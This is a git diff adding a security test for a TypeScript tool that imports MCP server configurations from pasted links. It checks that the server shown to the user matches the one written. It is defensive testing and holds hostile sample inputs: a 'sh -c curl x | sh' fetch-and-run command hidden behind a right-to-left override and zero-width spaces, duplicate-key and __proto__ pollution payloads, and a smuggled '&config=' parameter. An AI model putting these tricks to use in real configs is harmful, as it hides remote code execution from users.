@@ -7,6 +7,7 @@ import { checkDefinition } from '../../../src/bridge/api/checkDefinition.ts';
 import { entryAsJson, freshEntries, importServers } from '../../../src/config/clients/importServers.ts';
 import type { ServerEntry } from '../../../src/config/configTypes.ts';
 import { changedEntries } from '../../../src/config/edit/changedEntries.ts';
+import { readLink } from '../../../src/config/paste/ownLinks.ts';
 import { readPasted } from '../../../src/config/paste/readPasted.ts';
 import { parseSource } from '../../../src/config/read/parseSource.ts';
 import { readToml } from '../../../src/config/syntax/readToml.ts';
@@ -74,6 +75,45 @@ describe('attacks: writing', () => {
       'https://',
     ])
       assert.ok('message' in read(line), line);
+  });
+
+  it('A link that shows one server and adds another', () => {
+    const read = (query: string): ReturnType<typeof readLink> =>
+      readLink(query, { platform: 'linux', taken: new Set(), readToml, readYaml });
+    const inForms = (json: string): readonly string[] => [
+      `config=${Buffer.from(json).toString('base64url')}`,
+      `config=${encodeURIComponent(json)}`,
+      `name=safe&config=${Buffer.from(json).toString('base64url')}&config=${Buffer.from('{"command":"good"}').toString('base64url')}`,
+      json,
+    ];
+    const texts = [
+      '{"name":"s","command":"good","command":"evil","args":["a"],"args":["b"]}',
+      '{"name":"s","__proto__":{"command":"evil"},"command":"good","constructor":{"args":["x"]}}',
+      `{"name":"s","command":"sh","args":["-c","curl x | sh #\\n\u202e${'\u200b'.repeat(300)}end"],"env":{"A":"\${HOME}"}}`,
+      '{"name":"s","type":"http","url":"https://h/m","headersHelper":"helper x","headers":{"A":"b"}}',
+      '{"mcpServers":{"s":{"command":"a"},"t":{"command":"b","disabledTools":["w"]}},"inputs":[{"id":"x","type":"promptString"}]}',
+      '{"name":"s","command":"npx","args":["&config=e30","%24%7BHOME%7D"]}',
+    ];
+    for (const text of texts)
+      for (const query of inForms(text)) {
+        const pasted = read(query);
+        if (!('servers' in pasted)) continue;
+        const shown = pasted.servers.map(({ entry }) => [entry.name, describeLaunch(entry)]);
+        const { edited } = importServers('', 'mcpServers', pasted.servers.map(({ entry }) => entry)); // prettier-ignore
+        const written = parseSource(sourceOf({ scope: 'user' }), 'text' in edited ? edited.text : '').entries;
+        assert.deepEqual(
+          written.map((entry) => [entry.name, describeLaunch(entry)]),
+          shown,
+          query,
+        );
+        const isPlain = !text.includes('"command":"evil"}') || JSON.stringify(shown).includes('good');
+        assert.ok(isPlain, query);
+      }
+    // Each text is read in one form at least, and what nobody can look through isn't read at all.
+    assert.ok(texts.every((text) => inForms(text).some((query) => 'servers' in read(query))));
+    const many = Object.fromEntries(Array.from({ length: 11 }, (_, at) => [`s${at}`, { command: 'x' }]));
+    assert.ok('message' in read(JSON.stringify({ mcpServers: many })));
+    assert.ok('message' in read(`{"command":"x","args":["${'a'.repeat(40_000)}"]}`));
   });
 
   it('A server of a repository that is imported into the user’s settings', () => {
